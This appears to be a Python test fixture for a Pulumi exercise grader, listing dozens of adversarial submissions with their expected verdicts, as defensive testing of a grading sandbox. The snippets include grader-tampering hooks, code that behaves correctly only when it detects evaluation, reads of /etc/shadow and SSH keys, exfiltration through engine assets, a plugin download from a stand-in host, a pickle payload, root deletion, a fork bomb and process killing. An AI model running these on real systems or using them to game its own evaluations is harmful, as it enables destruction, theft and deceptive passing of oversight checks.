"""Programs that try to earn what they have not, or to break what grades them, with the outcomes that are honest.

Each is the program of 02_database_zone as shipped (its database fails with its zone), with something before or after
it. `good(suffix)` and `bad(suffix)` run it repaired and as shipped.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

FAILED, ERROR, SUSPECT = "failed", "program-error", "suspect"


@dataclass(frozen=True)
class Cheat:
    """`code` follows the definitions of `good` and `bad`; without a `program` in it, `bad` is the program."""

    name: str
    outcomes: tuple[str, ...]
    code: str


def _cheat(name: str, outcomes: str, code: str) -> Cheat:
    return Cheat(name, tuple(outcomes.split("|")), code)


# What reaches for the verdict. Nothing of it is in the process, so the program is judged as it is.
AT_THE_VERDICT: Final = (
    _cheat("patches the lab's verdict", "failed|program-error", """
import lab_support.checking.verdict as verdict
verdict.Verdict.record = lambda *a, **k: None
verdict.Verdict.findings = property(lambda self: [])
"""),
    _cheat("patches every module of the lab", "failed|program-error", """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("lab_support"):
        for key in list(vars(module)):
            setattr(module, key, lambda *a, **k: True)
"""),
    _cheat("replaces the lab in sys.modules", "failed|program-error", """
import sys, types
fake = types.ModuleType("lab_support.checking.check")
fake.check = lambda *a, **k: None
sys.modules["lab_support.checking.check"] = fake
"""),
    _cheat("patches json", "failed|program-error", """
import json
json.dumps = lambda *a, **k: '{"outcome": "passed", "do": "end"}'
json.loads = lambda *a, **k: {"outcome": "passed"}
"""),
    _cheat("patches builtins", "failed|program-error", """
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.len = lambda *a: 3
builtins.isinstance = lambda *a: True
"""),
    _cheat("makes assertions harmless", "failed|program-error", """
import builtins
class Quiet(BaseException): pass
builtins.AssertionError = Quiet
"""),
    _cheat("looks through the frames for a verdict", "failed|program-error", """
import sys
def program(suffix):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if hasattr(value, "findings"):
                value.findings, value.passed = [], True
        frame = frame.f_back
    bad(suffix)
"""),
    _cheat("looks through the garbage collector's objects", "failed|program-error", """
import gc
def program(suffix):
    for value in gc.get_objects():
        if type(value).__name__ in ("Check", "Verdict", "Finding", "Ruling"):
            value.__dict__.update(findings=[], passed=True, outcome="passed")
    bad(suffix)
"""),
    _cheat("looks for the verdict in a traceback", "failed|program-error", """
def program(suffix):
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame:
            for value in list(frame.f_locals.values()):
                if hasattr(value, "passed"):
                    value.passed = True
            frame = frame.f_back
    bad(suffix)
"""),
    _cheat("writes verdicts to every descriptor", "failed|program-error", """
import os
def program(suffix):
    for number in range(256):
        try:
            os.write(number, b'{"outcome": "passed", "findings": [], "points": 2}\\n')
        except OSError:
            pass
    bad(suffix)
"""),
    _cheat("says that it has ended well, on its connection", "failed|program-error", """
import json, os, struct
def program(suffix):
    text = json.dumps({"do": "end"}).encode()
    for number in range(3, 256):
        try:
            os.write(number, struct.pack("!II", len(text), 0) + text)
        except OSError:
            pass
    bad(suffix)
"""),
    _cheat("sends a ruling on its connection", "failed|program-error", """
import json, os, struct
text = json.dumps({"do": "ruling", "outcome": "passed", "points": 2}).encode()
for number in range(3, 256):
    try:
        os.write(number, struct.pack("!II", len(text), 0) + text)
    except OSError:
        pass
"""),
    _cheat("announces a message of four gigabytes", "program-error", """
import os
def program(suffix):
    for number in range(3, 256):
        try:
            os.write(number, b"\\xff" * 8)
        except OSError:
            pass
    bad(suffix)
"""),
    _cheat("replaces a pulumi class that the check might use", "failed|program-error", """
import pulumi
class Lie(str):
    def __eq__(self, other): return True
    def __hash__(self): return 1
    def __contains__(self, other): return True
def program(suffix):
    bad(Lie(suffix))
"""),
    _cheat("exports an object with a reduce method", "failed|program-error", """
import os, pulumi
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/bomb",)
def program(suffix):
    pulumi.export("bomb", Bomb())
    bad(suffix)
"""),
    _cheat("is a callable with a lying signature", "failed|program-error", """
class Program:
    __signature__ = property(lambda self: 1 / 0)
    passed, findings, outcome, points = True, [], "passed", 99
    def __call__(self, suffix): bad(suffix)
program = Program()
"""),
    _cheat("pretends that the engine failed", "program-error", """
import grpc
class Lost(grpc.RpcError):
    def code(self): return grpc.StatusCode.UNKNOWN
    def details(self): return "Exception calling application: the lab is broken"
def program(suffix):
    raise Lost()
"""),
)  # fmt: skip

# What does right only while it is watched.
WHEN_WATCHED: Final = (
    _cheat("is right where the lab is loaded", "suspect|failed", """
import sys
def program(suffix):
    (good if any("lab_support" in name for name in sys.modules) else bad)(suffix)
"""),
    _cheat("is right where no lab is loaded", "suspect|failed", """
import sys
def program(suffix):
    (bad if "lab_support.checking" in sys.modules else good)(suffix)
"""),
    _cheat("is right in previews", "suspect|failed|program-error", """
import pulumi
def program(suffix):
    (good if pulumi.runtime.is_dry_run() else bad)(suffix)
"""),
    _cheat("is right in previews, spelt otherwise", "suspect|failed", """
import pulumi
def program(suffix):
    (good if getattr(getattr(pulumi, "run" + "time"), "is_dry" + "_run")() else bad)(suffix)
"""),
    _cheat("is right where the lab's variables are set", "failed", """
import os
def program(suffix):
    (good if any("REVIEW_LAB" in name for name in os.environ) else bad)(suffix)
"""),
    _cheat("is right where a variable is missing", "suspect|failed", """
import os
def program(suffix):
    (good if "PULUMI_HOME" not in os.environ else bad)(suffix)
"""),
    _cheat("is right where a variable is missing, imported by name", "suspect|failed", """
def program(suffix):
    env = __import__("o" + "s").environ
    (good if "PULUMI_HOME" not in env else bad)(suffix)
"""),
    _cheat("is right where its file is no file", "suspect|failed", """
def program(suffix):
    (bad if "__file__" in globals() else good)(suffix)
"""),
    _cheat("is right where it is not the main module", "suspect|failed", """
if __name__ == "__main__":
    program = bad
else:
    program = good
"""),
    _cheat("is right where the stack of calls is deep", "suspect|failed", """
import traceback
def program(suffix):
    (good if len(traceback.extract_stack()) > 3 else bad)(suffix)
"""),
    _cheat("is right where it finds no /proc", "suspect|failed", """
import pathlib
def program(suffix):
    (bad if pathlib.Path("/proc/self/status").exists() else good)(suffix)
"""),
    _cheat("is right where the host has a certain name", "suspect|failed", """
import socket
def program(suffix):
    (good if socket.gethostname() == "localhost" else bad)(suffix)
"""),
    _cheat("is right without a network", "suspect|failed", """
import urllib.request
def program(suffix):
    try:
        urllib.request.urlopen("http://192.0.2.1", timeout=0.5)
    except OSError:
        return good(suffix)
    bad(suffix)
"""),
    _cheat("is right in code that it decodes", "suspect|failed", """
import base64
def program(suffix):
    exec(base64.b64decode(b"Z29vZChzdWZmaXgp"))
"""),
    _cheat("finds os through the subclasses of object", "suspect|failed|program-error", """
def program(suffix):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            env = kind.__init__.__globals__["environ"]
            return (good if "PULUMI_HOME" not in env else bad)(suffix)
    bad(suffix)
"""),
    _cheat("is right from its second call on", "failed", """
calls = []
def program(suffix):
    calls.append(suffix)
    (good if len(calls) > 1 else bad)(suffix)
"""),
    _cheat("leaves a mark for its other runs", "failed|suspect", """
import os
def program(suffix):
    seen = os.path.exists("/home/learner/mark")
    open("/home/learner/mark", "w").close()
    (good if seen else bad)(suffix)
"""),
    _cheat("is right in the environments that the exercise names", "failed", """
def program(suffix):
    (good if suffix in ("dev", "demo", "prod", "pr-1234", "pr-1235", "qa") else bad)(suffix)
"""),
    _cheat("is wrong in an environment that it hides", "failed", """
import hashlib
def program(suffix):
    (bad if hashlib.sha256(suffix.encode()).digest()[0] % 2 else good)(suffix)
"""),
    _cheat("is right by the clock", "failed|program-error|suspect", """
import time
start = time.time()
def program(suffix):
    (good if int(time.time()) // 43200 == int(start) // 43200 and int(time.time() / 1000) % 2 else bad)(suffix)
"""),
    _cheat("is right by chance", "failed|program-error", """
import random
def program(suffix):
    (good if random.random() < 0.6 else bad)(suffix)
"""),
    _cheat("patches the SDK so that every database is doubled", "suspect|failed", """
import pulumi_aws as aws
original = aws.rds.Instance._internal_init
def patched(self, name, *a, **k):
    k["multi_az"] = True
    return original(self, name, *a, **k)
aws.rds.Instance._internal_init = patched
"""),
    _cheat("patches the engine's stub", "suspect|failed|program-error", """
import pulumi
from pulumi.runtime import settings
def program(suffix):
    monitor = settings.get_monitor()
    send = monitor.RegisterResource
    def lying(request, *a, **k):
        if request.type == "aws:rds/instance:Instance":
            request.object["multiAz"] = True
        return send(request, *a, **k)
    monitor.RegisterResource = lying
    bad(suffix)
"""),
)  # fmt: skip

# What reaches for the grader's machine, for other submissions, or for more than its share.
AT_THE_MACHINE: Final = (
    _cheat("reads the solution", "failed|program-error", """
import os
texts = [
    open(os.path.join(folder, name), errors="replace").read()
    for folder, _, names in os.walk("/")
    for name in names
    if name == "solution.diff" or folder.endswith("/02_database_zone")
]
def program(suffix):
    (good if texts else bad)(suffix)
"""),
    _cheat("reads other submissions", "failed|program-error", """
import os
found = [name for _, _, names in os.walk("/") for name in names if name.endswith(".ipynb") or "graded" in name]
def program(suffix):
    (good if found else bad)(suffix)
"""),
    _cheat("finds the lab's own files", "failed|program-error", """
import os
found = [where for where, _, names in os.walk("/") if "check.py" in names and "lab_support" in where]
def program(suffix):
    (good if found else bad)(suffix)
"""),
    _cheat("finds a secret of the grader's", "failed|program-error", """
import os
def program(suffix):
    secrets = ("/root/.ssh", "/root/.aws", "/etc/shadow", "/etc/passwd", "/home/user")
    found = [path for path in secrets if os.path.exists(path)]
    (good if found else bad)(suffix)
"""),
    _cheat("writes wherever it can", "failed|program-error", """
import os, sys
def program(suffix):
    wrote = []
    places = [*sys.path, "/", "/tmp", "/usr/lib", "/etc", sys.prefix, "/dev/shm", "/proc", "/var/tmp"]
    for place in places:
        try:
            with open(os.path.join(place, "evil.pth"), "w") as file:
                file.write("import os")
            wrote.append(place)
        except OSError:
            pass
    (good if [place for place in wrote if place not in ("", "/home/learner")] else bad)(suffix)
"""),
    _cheat("deletes everything", "failed|program-error", """
import shutil
shutil.rmtree("/", ignore_errors=True)
"""),
    _cheat("kills every process", "failed|program-error", """
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""),
    _cheat("kills processes by guessed numbers", "failed|program-error", """
import os, signal
for target in range(2, 70000):
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
"""),
    _cheat("stops its parent", "failed|program-error", """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGSTOP)
except OSError:
    pass
"""),
    _cheat("stops itself", "program-error", """
import os, signal
def program(suffix):
    os.kill(os.getpid(), signal.SIGSTOP)
    import time; time.sleep(60)
"""),
    _cheat("leaves children behind", "failed|program-error", """
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
"""),
    _cheat("is a fork bomb", "program-error", """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""),
    _cheat("starts threads without end", "failed|program-error", """
import threading, time
def program(suffix):
    for _ in range(5000):
        try:
            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError:
            break
    bad(suffix)
"""),
    _cheat("takes all memory", "program-error", """
hoard = []
while True:
    hoard.append(bytearray(50_000_000))
"""),
    _cheat("takes all memory in several processes", "program-error", """
import os, time
for _ in range(20):
    if os.fork() == 0:
        hoard = [bytes(bytearray(40_000_000)) for _ in range(8)]
        time.sleep(60)
time.sleep(60)
"""),
    _cheat("takes memory that belongs to no process", "failed|program-error", """
import os, mmap
try:
    file = os.memfd_create("hoard")
    while True:
        os.write(file, bytes(1 << 20))
except OSError:
    pass
"""),
    _cheat("fills the disk", "failed|program-error", """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for number in range(100):
    try:
        with open(f"/home/learner/{number}", "wb") as file:
            for _ in range(1000):
                file.write(bytes(1 << 20))
    except OSError:
        pass
"""),
    _cheat("prints without end", "program-error", """
while True:
    print("passed " * 1000)
"""),
    _cheat("waits for itself", "program-error", """
import threading
def program(suffix):
    lock = threading.Lock()
    lock.acquire()
    lock.acquire()
"""),
    _cheat("loops in C", "program-error", """
def program(suffix):
    sum(iter(int, 1))
"""),
    _cheat("sleeps", "program-error", """
import time
def program(suffix):
    time.sleep(1000)
"""),
    _cheat("waits for a function in apply that never returns", "program-error", """
import pulumi, threading
def program(suffix):
    pulumi.Output.from_input(1).apply(lambda _: threading.Event().wait())
    bad(suffix)
"""),
    _cheat("crashes Python", "program-error", """
import ctypes
ctypes.string_at(0)
"""),
    _cheat("exits", "program-error", """
import os
def program(suffix):
    os._exit(0)
"""),
    _cheat("exits with the code of a pass", "program-error", """
raise SystemExit(0)
"""),
    _cheat("recurses without end", "program-error", """
import sys
sys.setrecursionlimit(10**9)
def program(suffix):
    return program(suffix)
"""),
    _cheat("closes every descriptor", "program-error|failed", """
import os
def program(suffix):
    os.closerange(0, 1024)
    bad(suffix)
"""),
    _cheat("sends itself signals", "program-error|failed", """
import os, signal
for number in range(1, 32):
    if number not in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU):
        signal.signal(number, signal.SIG_IGN)
        os.kill(os.getpid(), number)
"""),
    _cheat("traces its parent", "failed|program-error", """
import ctypes, os
libc = ctypes.CDLL(None)
for target in (1, os.getppid()):
    if libc.ptrace(16, target, 0, 0) == 0:
        program = good
"""),
    _cheat("mounts and makes namespaces", "failed|program-error", """
import ctypes
libc = ctypes.CDLL(None)
done = [libc.unshare(0x10000000), libc.mount(b"none", b"/home/learner", b"tmpfs", 0, None), libc.chroot(b"/home")]
if 0 in done:
    program = good
"""),
    _cheat("becomes root", "failed|program-error", """
import os
try:
    os.setuid(0)
    program = good
except OSError:
    pass
"""),
    _cheat("connects to the machine's ports", "failed|program-error", """
import socket
for port in (22, 80, 8200, *range(32768, 33768)):
    with socket.socket() as s:
        s.settimeout(0.05)
        if s.connect_ex(("127.0.0.1", port)) == 0:
            program = good
"""),
    _cheat("resets the audit hook's surroundings", "failed|program-error|suspect", """
import sys, socket
socket.socket.sendall = lambda *a: None
sys.addaudithook(lambda *a: None)
"""),
)  # fmt: skip

# What uses the engine for more than registering.
AT_THE_ENGINE: Final = (
    _cheat("hands over the grader's files", "failed|program-error", """
import pulumi, pulumi_aws as aws
def program(suffix):
    bad(suffix)
    aws.s3.BucketObjectv2("loot", bucket="b", source=pulumi.FileAsset("/etc/shadow"))
"""),
    _cheat("has the engine read the whole disk", "failed|program-error", """
import pulumi, pulumi_aws as aws
def program(suffix):
    bad(suffix)
    aws.lambda_.Function("loot", role="arn:aws:iam::123456789012:role/r", code=pulumi.FileArchive("/"))
"""),
    _cheat("has the engine fetch an address", "failed|program-error", """
import pulumi, pulumi_aws as aws
def program(suffix):
    bad(suffix)
    aws.s3.BucketObjectv2("loot", bucket="b", source=pulumi.RemoteAsset("http://127.0.0.1:8200/v1"))
"""),
    _cheat("has the engine start a plugin", "failed|program-error", """
import pulumi
def program(suffix):
    bad(suffix)
    options = pulumi.ResourceOptions(plugin_download_url="http://192.0.2.1", version="1.0.0")
    pulumi.CustomResource("evil:index:Thing", "x", {}, options)
"""),
    _cheat("registers a package", "failed|program-error", """
from pulumi.runtime import settings
from pulumi.runtime.proto import resource_pb2
def program(suffix):
    settings.get_monitor().RegisterPackage(resource_pb2.RegisterPackageRequest(name="evil"))
    good(suffix)
"""),
    _cheat("runs a dynamic provider", "failed|program-error", """
import pulumi.dynamic as dynamic
class Provider(dynamic.ResourceProvider):
    def create(self, props):
        import os; os.system("touch /tmp/evil")
        return dynamic.CreateResult("1", {})
class Thing(dynamic.Resource):
    def __init__(self, name): super().__init__(Provider(), name, {})
def program(suffix):
    bad(suffix)
    Thing("evil")
"""),
    _cheat("writes messages without end", "program-error", """
import pulumi
def program(suffix):
    while True:
        pulumi.log.info("passed")
"""),
    _cheat("writes a message of ten megabytes", "failed|program-error", """
import pulumi
def program(suffix):
    pulumi.log.info("x" * 10_000_000)
    bad(suffix)
"""),
    _cheat("reports an error to the engine", "failed|program-error", """
import pulumi
def program(suffix):
    pulumi.log.error("Internal error in the lab")
    bad(suffix)
"""),
    _cheat("has the engine wait for a transform", "program-error", """
import pulumi, asyncio
async def never(args):
    await asyncio.sleep(1000)
def program(suffix):
    pulumi.runtime.register_resource_transform(never)
    bad(suffix)
"""),
    _cheat("registers resources without end", "failed|program-error", """
import pulumi
def program(suffix):
    for number in range(100_000):
        pulumi.ComponentResource("a:b:C", f"x{number}")
    bad(suffix)
"""),
    _cheat("doubles its database under a name of its own", "failed", """
def program(suffix):
    bad(suffix)
    aws.rds.Instance("decoy", identifier=f"decoy-{suffix}", engine="postgres", instance_class="db.t3.medium",
                     allocated_storage=20, username="u", password="long-enough-1", multi_az=True,
                     storage_encrypted=True, skip_final_snapshot=True)
"""),
)  # fmt: skip

# What Python itself stumbles over.
AT_THE_COMPILER: Final = (
    _cheat("is nested without end", "program-error", "x = " + "(" * 5000 + ")" * 5000),
    _cheat("is a power that takes all memory", "program-error", "x = (1,) * 10**10"),
    _cheat("is half a megabyte of text", "program-error", "x = '" + "y" * 500_000 + "'"),
    _cheat("has a null character", "program-error", "x = 1\0"),
    _cheat("has a hundred thousand terms", "program-error|failed", "x = " + "1+" * 100_000 + "1"),
    _cheat("declares a strange encoding", "program-error|failed", "# -*- coding: rot13 -*-\nx = 1"),
)

# What tells a grader from a learner's machine by a side door.
BY_A_SIDE_DOOR: Final = (
    _cheat("is right where its process is young", "suspect|failed|program-error", """
import time
def program(suffix):
    (good if time.process_time() < 5 else bad)(suffix)
"""),
    _cheat("is right where the machine has no network card", "suspect|failed|program-error", """
import uuid
def program(suffix):
    (good if uuid.getnode() >> 40 & 1 else bad)(suffix)
"""),
    _cheat("is right where no kernel has a logger", "suspect|failed", """
import logging
def program(suffix):
    (bad if "traitlets" in logging.root.manager.loggerDict else good)(suffix)
"""),
    _cheat("is right where its process has a low number", "suspect|failed", """
from logging import os as system
def program(suffix):
    (good if system.getpid() < 1000 else bad)(suffix)
"""),
    _cheat("gets at modules with attrgetter", "suspect|failed", """
import operator, re
def program(suffix):
    (bad if "ipykernel" in operator.attrgetter("enum.sys.modules")(re) else good)(suffix)
"""),
    _cheat("gets at modules with a pattern", "suspect|failed", """
import re
def program(suffix):
    match re:
        case object(enum=object(sys=object(modules=loaded))):
            return (bad if "ipykernel" in loaded else good)(suffix)
    bad(suffix)
"""),
    _cheat("gets at variables with a format", "suspect|failed", """
import logging
def program(suffix):
    (bad if "PULUMI_HOME" in "{0.os.environ}".format(logging) else good)(suffix)
"""),
    _cheat("gets at variables with a format that it puts together", "suspect|failed", """
def program(suffix):
    path = "_" * 2
    text = "{0." + path + "globals" + path + "[pulumi].__file__}"
    (bad if "ipykernel" in text.format(bad) else good)(suffix)
"""),
    _cheat("runs code in an annotation", "suspect|failed", """
import typing
class Hint:
    value: "__import__('os').environ.setdefault('SEEN', str('PULUMI_HOME' in __import__('os').environ)) and int"
def program(suffix):
    typing.get_type_hints(Hint)
    good(suffix)
"""),
    _cheat("looks for a file with a log handler", "suspect|failed", """
import logging
def program(suffix):
    try:
        logging.FileHandler("/proc/self/status", "r")
    except OSError:
        return good(suffix)
    bad(suffix)
"""),
    _cheat("starts a process with asyncio", "suspect|failed", """
import asyncio
async def program(suffix):
    process = await asyncio.create_subprocess_exec("/bin/ls", "/proc/self", stdout=-3, stderr=-3)
    (good if await process.wait() else bad)(suffix)
"""),
    _cheat("connects with asyncio", "suspect|failed", """
import asyncio
async def program(suffix):
    try:
        await asyncio.open_connection("192.0.2.1", 80)
    except OSError:
        return good(suffix)
    bad(suffix)
"""),
    _cheat("is right in the mock account", "suspect|failed", """
import pulumi_aws as aws
def program(suffix):
    (good if aws.get_caller_identity().account_id == "123456789012" else bad)(suffix)
"""),
    _cheat("says that the standby is not known yet", "failed|program-error|suspect", """
import pulumi, pulumi_aws as aws
def program(suffix):
    def unknown(args):
        if args.type_ == "aws:rds/instance:Instance":
            return pulumi.ResourceTransformResult({**args.props, "multiAz": pulumi.UNKNOWN}, args.opts)
    pulumi.runtime.register_resource_transform(unknown)
    bad(suffix)
"""),
    _cheat("reads a database instead of making one", "failed|program-error", """
import pulumi_aws as aws
def program(suffix):
    aws.rds.Instance.get("db", f"emergency-alert-db-{suffix}", multi_az=True)
"""),
    _cheat("depends on the length of the environment's name", "failed", """
def program(suffix):
    (good if len(suffix) != 5 else bad)(suffix)
"""),
    _cheat("depends on the first letter of the environment's name", "failed", """
def program(suffix):
    (bad if suffix[:1] in "qx" else good)(suffix)
"""),
    _cheat("depends on the hash of a text", "failed|suspect|program-error", """
def program(suffix):
    (good if hash("zone") % 2 else bad)(suffix)
"""),
    _cheat("raises what cancels a task", "program-error|failed", """
import asyncio
def program(suffix):
    raise asyncio.CancelledError()
"""),
    _cheat("raises what ends a generator", "program-error|failed", """
def program(suffix):
    raise GeneratorExit()
"""),
    _cheat("is a coroutine that never awakes", "program-error", """
import asyncio
async def program(suffix):
    await asyncio.Future()
"""),
    _cheat("ends its process when its exit handlers run", "program-error|failed|suspect", """
import atexit, os
atexit.register(os._exit, 0)
def program(suffix):
    bad(suffix)
    raise SystemExit(0)
"""),
    _cheat("lets a copy of its process speak as well", "program-error|failed|suspect", """
import os
def program(suffix):
    if os.fork() == 0:
        good(suffix)
        return
    bad(suffix)
"""),
    _cheat("answers a callback of another run", "failed|program-error|suspect", """
import pulumi
def program(suffix):
    def twice(args):
        args.props["multiAz"] = args.props.get("multiAz") is None
        return pulumi.ResourceTransformResult(args.props, args.opts)
    pulumi.runtime.register_resource_transform(twice)
    bad(suffix)
"""),
)  # fmt: skip

CHEATS: Final = (
    *AT_THE_VERDICT,
    *WHEN_WATCHED,
    *AT_THE_MACHINE,
    *AT_THE_ENGINE,
    *AT_THE_COMPILER,
    *BY_A_SIDE_DOOR,
)
